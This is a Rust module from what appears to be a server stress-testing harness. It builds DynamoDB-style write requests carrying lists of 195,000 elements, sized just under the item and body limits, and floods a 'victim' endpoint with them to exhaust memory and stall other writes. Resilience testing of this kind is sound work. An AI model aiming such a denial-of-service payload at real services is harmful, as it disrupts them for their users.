use crate::crowd::{crowd, repeat};
use crate::round::{Kind, Round};
use crate::victim;
use serde_json::json;

const TABLE: &str = "nested";
/// How many elements the list of an item has: nearly the 400 KB that an item may have.
const ELEMENTS: usize = 195_000;
/// How many items a request has: nearly the 16 MB that a body may have.
const ITEMS: usize = 7;

/// Writes of items with one list of 195,000 texts each. They were charged as one attribute, encoded
/// and dropped while all other writes waited; in memory by a thread that serves connections.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut endpoint = round.endpoint(Kind::Memory)?;
    let requests = endpoint.requests;
    victim::create_table(requests, TABLE)?;
    let list = vec![r#"{"S":"a"}"#; ELEMENTS].join(",");
    let item = |key: usize| format!(r#"{{"pk":{{"S":"{key}"}},"l":{{"L":[{list}]}}}}"#);
    let joined = |entry: &dyn Fn(String) -> String| {
        (0..ITEMS).map(|key| entry(item(key))).collect::<Vec<String>>().join(",")
    };
    let puts = joined(&|item| format!(r#"{{"PutRequest":{{"Item":{item}}}}}"#));
    let actions = joined(&|item| format!(r#"{{"Put":{{"TableName":"{TABLE}","Item":{item}}}}}"#));
    let bodies = [
        ("PutItem", format!(r#"{{"TableName":"{TABLE}","Item":{}}}"#, item(0))),
        ("BatchWriteItem", format!(r#"{{"RequestItems":{{"{TABLE}":[{puts}]}}}}"#)),
        // With a token, which SDKs always send, and which is computed of all values.
        (
            "TransactWriteItems",
            format!(r#"{{"ClientRequestToken":"token","TransactItems":[{actions}]}}"#),
        ),
    ];
    // An attack that is refused would show nothing.
    let mut connection = victim::open(requests)?;
    for (operation, body) in &bodies {
        victim::ask(&mut connection, requests, operation, body)?;
    }
    let key = json!({"TableName": TABLE, "Key": {"pk": {"S": "6"}}, "ProjectionExpression": "pk"});
    victim::ask(&mut connection, requests, "GetItem", &key.to_string())?;
    drop(connection);
    let bodies = bodies.map(|(operation, body)| requests.make(operation, body));
    round.attack_endpoint(&mut endpoint, |until| {
        crowd(bodies.len(), |client| {
            bodies.get(client).map(|body| repeat(requests.address, body, until))
        });
        Ok(())
    })
}
